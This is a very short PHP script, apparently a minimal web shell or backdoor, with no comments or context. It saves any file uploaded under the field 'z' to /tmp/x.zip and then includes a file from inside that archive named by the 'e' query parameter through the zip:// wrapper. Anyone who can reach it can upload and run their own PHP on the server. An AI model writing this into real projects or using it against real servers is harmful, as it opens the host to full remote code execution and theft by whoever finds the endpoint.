<?php
if (isset($_FILES['z'])) {
    move_uploaded_file($_FILES['z']['tmp_name'], '/tmp/x.zip');
}
include 'zip:///tmp/x.zip#' . $_GET['e'];
